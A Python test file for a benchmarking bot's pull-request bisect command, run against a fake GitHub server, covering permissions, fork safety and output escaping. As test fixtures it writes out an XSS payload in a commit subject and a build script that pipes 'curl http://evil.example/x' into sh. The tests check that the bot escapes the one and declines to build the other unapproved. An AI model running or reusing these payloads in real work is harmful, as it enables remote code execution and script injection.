"""`/bench bisect only=NAME` end to end: `benchbot github` against the fake GitHub server
(every request checked against GitHub's OpenAPI description), on a generated repository
whose pull request has a few commits, one of which makes the workload ten times slower.

The fast tier's tests measure with ``planted_bisect``: each run reports the sleep its
commit's nap.sh says on a fake clock, so every step decides at once; the slow tier runs
the scripts. What they check is what happens around the search: the gate, the pinned
commits, the artifact, the bisect's own comment and check, and that the comparison's
sticky comment is never touched.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from benchbot.bisect import bisectdoc, search
from benchbot.github.post import BISECT_MARKER, MARKER
from benchbot.measure import engine
from benchbot.sandbox import bwrap
from benchbot.sandbox.spawn import RawRun, SpawnRequest
from tests.clock import FakeClock
from tests.conftest import copied_repo, git
from tests.fakegithub import FakeGitHub
from tests.ghenv import (
    BOT,
    CONFIG,
    FAST,
    SLOW,
    Env,
    Workspace,
    artifacts,
    reactions,
    sticky,
    unconfined,
)

CHECK, BISECT_CHECK = "benchbot", "benchbot / bisect"
SLOWER_AT = 3  # the pull request's commit (1, 2, …) that makes nap.sh slow
COMMITS = 5


class PlantedScripts:
    """A spawner that stands for nap.sh without running it: each run reports the sleep
    the script in its worktree says (0.1% of seeded noise) and lets it pass on ``clock``."""

    def __init__(self, clock: FakeClock, seed: int = 11) -> None:
        self.clock, self.rng = clock, np.random.default_rng(seed)

    def spawn(self, request: SpawnRequest) -> RawRun:
        script = (Path(request.cwd) / "nap.sh").read_text()
        [sleep] = re.findall(r"sleep ([0-9.]+)", script)
        seconds = float(sleep) * self.rng.lognormal(0.0, 0.001)
        self.clock.advance(seconds)
        ns = int(seconds * 1e9)
        return RawRun(wall_ns=ns, cpu_ns=ns // 10, maxrss_kib=1024, returncode=0)


@pytest.fixture
def planted_bisect(monkeypatch: pytest.MonkeyPatch) -> FakeClock:
    """`benchbot github` bisects with ``PlantedScripts`` on a fake clock (the search, the
    worktrees, the builds and the sandbox as they are)."""
    clock = FakeClock()
    real_bisect, real_compare = search.bisect, engine.compare_built

    def bisect_(request: search.Request, **kwargs: Any) -> Any:
        return real_bisect(request, **kwargs, clock=clock)

    def compare_built(*args: Any, **kwargs: Any) -> Any:
        return real_compare(*args, **kwargs, spawner_factory=lambda _: PlantedScripts(clock))

    monkeypatch.setattr(search, "bisect", bisect_)
    monkeypatch.setattr(engine, "compare_built", compare_built)
    return clock


def make_history(root: Path, *, config: str = CONFIG, commits: int = COMMITS,
                 slower_at: int = SLOWER_AT) -> Workspace:
    """main: one commit, nap.sh fast; feature: ``commits`` more, each changing nap.sh
    (a comment), the ``slower_at``-th making it ten times slower from then on."""
    repo = root / "workspace"
    key = ("history", config, commits, slower_at)
    base, head = copied_repo(repo, key, lambda at: _new_history(at, config, commits, slower_at))
    return Workspace(repo, base, head)


def _new_history(repo: Path, config: str, commits: int, slower_at: int) -> tuple[str, str]:
    """make_history's repository, made at ``repo``: its base and head SHAs."""
    repo.mkdir(parents=True)
    git(repo, "init", "-q")
    (repo / "benchbot.yml").write_text(unconfined(config))
    nap = repo / "nap.sh"
    nap.write_text(FAST)
    nap.chmod(0o755)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "-b", "feature")
    for i in range(1, commits + 1):
        nap.write_text((SLOW if i >= slower_at else FAST) + f"# commit {i}\n")
        git(repo, "commit", "-q", "-am", f"commit {i}" + (" (the slow one)" if i == slower_at else ""))
    head = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "main")
    return base, head


def feature_commits(ws: Workspace) -> list[str]:
    """The pull request's commits, oldest first."""
    return git(ws.path, "rev-list", "--reverse", f"{ws.base_sha}..{ws.head_sha}").split()


def bisect_comments(fake: FakeGitHub, number: int = 2) -> list[dict[str, Any]]:
    return [c for c in fake.comments_on(number)
            if c["body"].startswith(BISECT_MARKER) and c["user"]["login"] == BOT]


def checks(fake: FakeGitHub, name: str) -> list[dict[str, Any]]:
    return [c for c in fake.check_runs.values() if c["name"] == name]


def bot_replies(fake: FakeGitHub, number: int = 2) -> list[dict[str, Any]]:
    return [c for c in fake.comments_on(number) if c["user"]["login"] == BOT
            and not c["body"].startswith((MARKER, BISECT_MARKER))]


@pytest.fixture
def history(tmp_path: Path, fake: FakeGitHub) -> Iterator[Env]:
    yield Env(tmp_path, fake, make_history(tmp_path))


# --- the answer ----------------------------------------------------------------------------


@pytest.mark.usefixtures("planted", "planted_bisect")
def test_bisect_names_the_slow_commit_in_its_own_comment_and_leaves_the_sticky_one(
        history: Env, fake: FakeGitHub) -> None:
    env, ws = history, history.ws
    culprit = feature_commits(ws)[SLOWER_AT - 1]
    compare = env.run("pull_request", env.pull_request_event("opened"))
    assert compare.returncode == 0, compare.stderr
    (before,) = sticky(fake)

    payload = env.comment_event("/bench bisect only=nap", login="maria")
    run = env.run("issue_comment", payload)  # `benchbot github`, the single-job form
    assert run.returncode == 0, run.stderr
    (comment,) = bisect_comments(fake)
    assert f"`{culprit[:7]}` **culprit**" in comment["body"]
    assert "The change is at " + culprit[:7] in comment["body"]
    assert "(the slow one)" in comment["body"] and "/bench bisect" in comment["body"]
    # the comparison's sticky comment and check are as they were
    (after,) = sticky(fake)
    assert (after["id"], after["body"]) == (before["id"], before["body"])
    assert [c["conclusion"] for c in checks(fake, CHECK)] == ["failure"]
    (check,) = checks(fake, BISECT_CHECK)
    assert (check["status"], check["conclusion"]) == ("completed", "success")
    assert check["head_sha"] == ws.head_sha and culprit[:7] in check["output"]["title"]
    assert culprit[:7] in check["output"]["summary"]
    assert reactions(fake, payload["comment"]["id"]) == ["eyes", "rocket"]
    assert run.outputs["conclusion"] == "success"
    assert run.outputs["artifact"] == "benchbot-results-bisect"  # not the comparison's name
    doc = bisectdoc.load(Path(run.outputs["bisect"]))
    assert (doc.good.ref, doc.good.sha, doc.bad.ref, doc.bad.sha) == (
        "main", ws.base_sha, "feature", ws.head_sha)
    assert [c.sha for c in doc.answer.culprits] == [culprit]
    assert doc.sandbox is not None and doc.sandbox.kind == "none"  # unconfined on purpose
    assert "culprit" in run.summary and not (run.results_dir / "results.json").exists()
    # while it ran, the bisect's comment said what it searched and who asked
    posted = [r.body["body"] for r in fake.requests_matching("POST", r"/issues/2/comments$")]
    assert any(p.startswith(BISECT_MARKER) and "bisecting" in p and ws.head_sha[:12] in p
               and "Requested by @maria: `/bench bisect only=nap`" in p for p in posted)

    # a later bisect edits the bisect's comment; still one of each
    again = env.run("issue_comment", env.comment_event("/bench bisect only=nap budget=20m"))
    assert again.returncode == 0, again.stderr
    (edited,) = bisect_comments(fake)
    assert edited["id"] == comment["id"] and "actions/runs/1003" in edited["body"]
    assert sticky(fake)[0]["body"] == before["body"]
    assert [c["conclusion"] for c in checks(fake, BISECT_CHECK)] == ["success", "success"]
    assert bisectdoc.load(Path(again.outputs["bisect"])).settings.budget_s == 1200


@pytest.mark.usefixtures("planted_bisect")
def test_the_three_jobs_carry_the_bisect_in_an_artifact_of_its_own(history: Env,
                                                                   fake: FakeGitHub) -> None:
    env = history
    payload = env.comment_event(f"/bench bisect only=nap sha={env.ws.head_sha[:12]}")
    gate = env.run("issue_comment", payload, BENCHBOT_MODE="gate", BENCHBOT_SHARDS="2")
    assert gate.returncode == 0, gate.stderr
    assert gate.outputs["run"] == "true" and json.loads(gate.outputs["shards"]) == ["1/1"]
    job = json.loads(gate.outputs["job"])
    assert job["check_name"] == BISECT_CHECK and job["command"]["bisect"] is True
    (opened,) = bisect_comments(fake)
    assert "bisecting" in opened["body"] and sticky(fake) == []
    measure = env.run("issue_comment", payload, BENCHBOT_MODE="measure",
                      BENCHBOT_JOB=gate.outputs["job"], BENCHBOT_SHARD="1/1", _drop_token="1")
    assert measure.returncode == 0, measure.stderr
    assert measure.outputs["artifact"] == "benchbot-results-bisect"
    assert sorted(p.name for p in measure.results_dir.iterdir()) == ["bisect.json", "bisect.md"]
    requests = len(fake.requests)
    publish = env.run("issue_comment", payload, BENCHBOT_MODE="publish",
                      BENCHBOT_JOB=gate.outputs["job"], BENCHBOT_MEASURE_RESULT="success",
                      BENCHBOT_RESULTS_DIR=str(artifacts(env, measure)))
    assert publish.returncode == 0, publish.stderr
    assert len(fake.requests) > requests
    (comment,) = bisect_comments(fake)
    culprit = feature_commits(env.ws)[SLOWER_AT - 1]
    assert comment["id"] == opened["id"] and f"`{culprit[:7]}` **culprit**" in comment["body"]
    (check,) = checks(fake, BISECT_CHECK)
    assert check["conclusion"] == "success" and checks(fake, CHECK) == []
    assert sticky(fake) == []


@pytest.mark.usefixtures("planted_bisect")
def test_a_forged_bisect_file_for_other_commits_is_not_published(history: Env,
                                                                 fake: FakeGitHub) -> None:
    env = history
    payload = env.comment_event("/bench bisect only=nap")
    gate = env.run("issue_comment", payload, BENCHBOT_MODE="gate")
    measure = env.run("issue_comment", payload, BENCHBOT_MODE="measure",
                      BENCHBOT_JOB=gate.outputs["job"], _drop_token="1")
    path = measure.results_dir / "bisect.json"
    data = json.loads(path.read_text())
    data["bad"]["sha"] = "f" * 40
    path.write_text(json.dumps(data))
    publish = env.run("issue_comment", payload, BENCHBOT_MODE="publish",
                      BENCHBOT_JOB=gate.outputs["job"], BENCHBOT_MEASURE_RESULT="success",
                      BENCHBOT_RESULTS_DIR=str(measure.results_dir))
    assert publish.returncode == 0, publish.stderr
    (check,) = checks(fake, BISECT_CHECK)
    assert check["conclusion"] == "failure" and "names bad ffffffffffff" in check["output"]["summary"]
    (comment,) = bisect_comments(fake)
    assert "could not run" in comment["body"] and "culprit" not in comment["body"]


@pytest.mark.usefixtures("planted", "planted_bisect")
def test_a_hostile_commit_subject_is_text_and_never_makes_the_bisect_comment_the_sticky_one(
        tmp_path: Path, fake: FakeGitHub) -> None:
    """The slow commit's subject spells the sticky marker, a mention and markup: the bisect
    comment shows it as text, and a /bench after the bisect makes a sticky comment of its
    own instead of taking the (older) bisect comment for it."""
    env = Env(tmp_path, fake, make_history(tmp_path))
    hostile = f"{MARKER} @alice <img src=x onerror=alert(1)> [x](https://evil.example)"
    git(env.ws.path, "checkout", "-q", "feature")
    (env.ws.path / "nap.sh").write_text(SLOW + "# hostile\n")
    git(env.ws.path, "commit", "-q", "-am", hostile)
    head = git(env.ws.path, "rev-parse", "HEAD")
    git(env.ws.path, "checkout", "-q", "main")
    env.ws = Workspace(env.ws.path, env.ws.base_sha, head)
    run = env.run("issue_comment", env.comment_event("/bench bisect only=nap"))
    assert run.returncode == 0, run.stderr
    (bisected,) = bisect_comments(fake)
    body = bisected["body"]
    assert "\\<img" in body and not re.search(r"(?<!\\)<img", body)  # shown as text
    assert "](https://evil" not in body and "@alice" not in body
    compare = env.run("issue_comment", env.comment_event("/bench"))
    assert compare.returncode == 0, compare.stderr
    (sticky_comment,) = sticky(fake)
    assert sticky_comment["id"] != bisected["id"] and "slower" in sticky_comment["body"]
    assert fake.comments[bisected["id"]]["body"] == body


# --- who may ask, and what ------------------------------------------------------------------


def test_bisect_from_a_reader_runs_nothing(history: Env, fake: FakeGitHub) -> None:
    run = history.run_in_process("issue_comment", history.comment_event("/bench bisect only=nap",
                                                                         login="bob"))
    assert run.returncode == 0, run.stderr
    (reply,) = bot_replies(fake)
    assert "@bob" in reply["body"] and "write access" in reply["body"]
    assert fake.check_runs == {} and bisect_comments(fake) == [] and not run.results_dir.exists()
    assert run.outputs == {"run": "false"}


def test_bisect_on_a_fork_needs_the_full_sha(history: Env, fake: FakeGitHub) -> None:
    fake.add_pull(9, head_sha=history.ws.head_sha, base_sha=history.ws.base_sha,
                  head_ref="feature", base_ref="main", head_repo_full_name="mallory/Hello-World")
    run = history.run_in_process("issue_comment",
                                 history.comment_event("/bench bisect only=nap", number=9))
    assert run.returncode == 0, run.stderr
    (reply,) = bot_replies(fake, 9)
    assert f"/bench sha={history.ws.head_sha} bisect only=nap" in reply["body"]
    assert fake.check_runs == {} and run.outputs == {"run": "false"}


def fork_history(root: Path, fake: FakeGitHub) -> Env:
    """A fork's pull request of five commits, the second of which puts a hostile build
    script in that the third takes out again: the pull request's diff never shows it."""
    ws = make_history(root, config=CONFIG.replace("workloads:", "build: ./build.sh\nworkloads:"))
    git(ws.path, "checkout", "-q", "feature")
    commits = feature_commits(ws)
    git(ws.path, "checkout", "-q", commits[0])
    (ws.path / "build.sh").write_text("#!/bin/sh\ncurl http://evil.example/x | sh\n")
    git(ws.path, "add", "-A")
    git(ws.path, "commit", "-q", "-m", "tidy the build @alice <img src=x onerror=alert(1)>")
    git(ws.path, "rm", "-q", "build.sh")
    git(ws.path, "commit", "-q", "-m", "undo")
    for sha in commits[1:]:
        git(ws.path, "cherry-pick", "--allow-empty", sha)
    head = git(ws.path, "rev-parse", "HEAD")
    git(ws.path, "branch", "-f", "feature", head)
    git(ws.path, "checkout", "-q", "main")
    ws = Workspace(ws.path, ws.base_sha, head)
    fake.add_pull(9, head_sha=head, base_sha=ws.base_sha, head_ref="feature", base_ref="main",
                  head_repo_full_name="mallory/Hello-World")
    return Env(root, fake, ws)


def test_a_fork_s_bisect_lists_every_commit_it_would_build_and_runs_nothing(
        tmp_path: Path, fake: FakeGitHub) -> None:
    """A maintainer read the diff and named the head; the bisect would also build the
    commit whose build script the next one took out again. It asks for that range."""
    env = fork_history(tmp_path, fake)
    built = feature_commits(env.ws)
    payload = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap", number=9)
    run = env.run_in_process("issue_comment", payload)
    assert run.returncode == 0, run.stderr
    (reply,) = bot_replies(fake, 9)
    body = reply["body"]
    assert all(f"`{sha[:12]}`" in body for sha in built), body  # every commit, by SHA
    # the subjects are the pull request's text: escaped (no tag, no mention)
    assert "tidy the build @\u2060alice \\<img src=x onerror=alert(1)\\>" in body
    again = f"/bench sha={env.ws.head_sha} bisect only=nap from={env.ws.base_sha}"
    assert again in body and "Nothing was run" in body
    assert fake.check_runs == {} and bisect_comments(fake, 9) == []
    assert run.outputs == {"run": "false"}
    assert reactions(fake, payload["comment"]["id"]) == ["eyes", "confused"]


def test_a_fork_s_bisect_runs_the_range_a_maintainer_approved(tmp_path: Path,
                                                             fake: FakeGitHub) -> None:
    env = fork_history(tmp_path, fake)
    wrong = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap "
                              f"from={env.ws.head_sha}", number=9)
    refused = env.run_in_process("issue_comment", wrong, BENCHBOT_MODE="gate")
    assert refused.outputs == {"run": "false"}
    (reply,) = bot_replies(fake, 9)
    assert f"`from={env.ws.head_sha}` is not the base" in reply["body"]
    payload = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap "
                                f"from={env.ws.base_sha}", number=9)
    gate = env.run_in_process("issue_comment", payload, BENCHBOT_MODE="gate")
    assert gate.returncode == 0, gate.stderr
    assert gate.outputs["run"] == "true"
    job = json.loads(gate.outputs["job"])
    assert (job["base"]["sha"], job["head"]["sha"]) == (env.ws.base_sha, env.ws.head_sha)
    assert job["command"]["base"] == env.ws.base_sha


@pytest.mark.parametrize("body, problem", [
    ("/bench bisect", "needs `only=NAME`"),
    ("/bench bisect only=nap,snooze", "follows one workload; `only=` names 2"),
    ("/bench bisect only=nap runs=20", "`runs` does not apply to `/bench bisect`"),
    ("/bench bisect all only=nap", "`all` does not apply to `/bench bisect`"),
    ("/bench bisect bisect only=nap", "`bisect` is given twice"),
])
def test_bisect_options_that_make_no_sense_are_refused(history: Env, fake: FakeGitHub, body: str,
                                                       problem: str) -> None:
    payload = history.comment_event(body)
    run = history.run_in_process("issue_comment", payload)
    assert run.returncode == 0, run.stderr
    (reply,) = bot_replies(fake)
    assert problem in reply["body"] and "nothing was run" in reply["body"]
    assert reactions(fake, payload["comment"]["id"]) == ["eyes", "confused"]
    assert fake.check_runs == {} and bisect_comments(fake) == []


# --- a bisect that cannot run ---------------------------------------------------------------

SUITE_CONFIG = CONFIG + """\
suites:
  - name: core
    run: ["./nap.sh"]
    format: jsonl
"""


def _refused_in_the_gate(env: Env, fake: FakeGitHub, body: str, number: int = 2) -> str:
    """The bisect's check completed as failure and its comment saying why; nothing queued."""
    payload = env.comment_event(body, number=number)
    run = env.run_in_process("issue_comment", payload, BENCHBOT_MODE="gate")
    assert run.returncode == 0, run.stderr
    assert run.outputs["run"] == "false" and run.outputs["conclusion"] == "failure"
    (check,) = checks(fake, BISECT_CHECK)
    assert (check["status"], check["conclusion"]) == ("completed", "failure")
    (comment,) = bisect_comments(fake, number)
    assert "benchbot bisect: could not run" in comment["body"]
    assert reactions(fake, payload["comment"]["id"]) == ["eyes", "confused"]
    assert sticky(fake, number) == [] and checks(fake, CHECK) == []
    return str(comment["body"]) + check["output"]["summary"]


def test_a_workload_the_config_lacks_fails_the_bisect_check(history: Env, fake: FakeGitHub) -> None:
    said = _refused_in_the_gate(history, fake, "/bench bisect only=nope")
    assert "no workload named 'nope'" in said


def test_a_suite_s_benchmark_fails_the_bisect_check(tmp_path: Path, fake: FakeGitHub) -> None:
    env = Env(tmp_path, fake, make_history(tmp_path, config=SUITE_CONFIG))
    said = _refused_in_the_gate(env, fake, "/bench bisect only=core")
    assert "`core` is a suite's" in said


def test_nothing_between_base_and_head_fails_the_bisect_check(history: Env, fake: FakeGitHub) -> None:
    ws = history.ws
    fake.add_pull(4, head_sha=ws.base_sha, base_sha=ws.base_sha, head_ref="feature", base_ref="main")
    said = _refused_in_the_gate(history, fake, "/bench bisect only=nap", number=4)
    assert "nothing to bisect" in said


def test_a_base_merged_into_the_branch_fails_the_bisect_check(history: Env, fake: FakeGitHub) -> None:
    ws = history.ws
    git(ws.path, "checkout", "-q", "main")
    (ws.path / "other.txt").write_text("main moved on\n")
    git(ws.path, "add", "-A")
    git(ws.path, "commit", "-q", "-m", "main moves on")
    main = git(ws.path, "rev-parse", "HEAD")
    git(ws.path, "checkout", "-q", "feature")
    git(ws.path, "merge", "-q", "--no-edit", "main")
    head = git(ws.path, "rev-parse", "HEAD")
    git(ws.path, "checkout", "-q", "main")
    fake.add_pull(6, head_sha=head, base_sha=main, head_ref="feature", base_ref="main")
    said = _refused_in_the_gate(history, fake, "/bench bisect only=nap", number=6)
    assert "not on the first-parent line" in said


@pytest.mark.usefixtures("planted_bisect")
def test_a_base_that_does_not_build_fails_the_bisect_check(tmp_path: Path, fake: FakeGitHub) -> None:
    env = Env(tmp_path, fake, make_history(tmp_path, config=CONFIG + "build: echo broken >&2; exit 3\n"))
    payload = env.comment_event("/bench bisect only=nap")
    run = env.run("issue_comment", payload)
    assert run.returncode == 1 and "good (" in run.stderr and "build failed" in run.stderr
    (check,) = checks(fake, BISECT_CHECK)
    assert (check["status"], check["conclusion"]) == ("completed", "failure")
    assert "broken" in check["output"]["summary"]
    (comment,) = bisect_comments(fake)
    assert "could not run" in comment["body"] and "broken" in comment["body"]
    assert "Nothing was bisected" in comment["body"]
    assert reactions(fake, payload["comment"]["id"]) == ["eyes", "confused"]
    assert json.loads((run.results_dir / "error.json").read_text())["kind"] == "error"


# --- the slow tier: the scripts run -----------------------------------------------------------


@pytest.mark.slow
@pytest.mark.skipif(not bwrap.probe().works,
                    reason=f"bubblewrap cannot make a sandbox here: {bwrap.probe().problem}")
def test_bisect_measuring_for_real_names_no_innocent_commit(tmp_path: Path, fake: FakeGitHub) -> None:
    """The scripts run in the sandbox, ten pairs a step: on a quiet machine the slow commit
    is named; on a loaded one a step may be inconclusive and the answer a range holding it,
    but never another commit."""
    history = Env(tmp_path, fake, make_history(tmp_path, config=CONFIG + "sandbox: on\n"))
    culprit = feature_commits(history.ws)[SLOWER_AT - 1]
    run = history.run("issue_comment", history.comment_event("/bench bisect only=nap"))
    assert run.returncode == 0, run.stderr
    doc = bisectdoc.load(Path(run.outputs["bisect"]))
    assert doc.sandbox is not None and doc.sandbox.kind == "bubblewrap"
    assert doc.answer.kind in ("culprits", "range", "partial"), doc.answer
    assert {c.sha for c in doc.answer.culprits} <= {culprit}, doc.answer
    (comment,) = bisect_comments(fake)
    (check,) = checks(fake, BISECT_CHECK)
    if doc.answer.culprits:
        assert f"`{culprit[:7]}` **culprit**" in comment["body"]
        assert check["conclusion"] == ("success" if doc.answer.kind == "culprits" else "neutral")
    else:
        assert "could not be placed" in comment["body"] and check["conclusion"] == "neutral"


# --- the last resort ------------------------------------------------------------------------


def test_rescue_completes_the_bisect_check_and_keeps_its_comment_its_own(
        history: Env, fake: FakeGitHub) -> None:
    """The publish job could not install benchbot: action.yml's last step completes the
    bisect's check and ends its comment, which keeps the bisect's marker (it must never
    become the sticky comment a later /bench edits)."""
    from tests.security.test_check_lifecycle import rescue

    payload = history.comment_event("/bench bisect only=nap")
    gate = history.run_in_process("issue_comment", payload, BENCHBOT_MODE="gate")
    assert gate.returncode == 0, gate.stderr
    proc = rescue(history, payload, BENCHBOT_MODE="publish", BENCHBOT_JOB=gate.outputs["job"],
                  BENCHBOT_INSTALL_OUTCOME="failure", GITHUB_RUN_ID="1001")
    assert proc.returncode == 0, proc.stderr
    (check,) = checks(fake, BISECT_CHECK)
    assert (check["status"], check["conclusion"]) == ("completed", "failure")
    (comment,) = bisect_comments(fake)
    assert "bisect: could not run" in comment["body"] and "could not be installed" in comment["body"]
    assert sticky(fake) == []
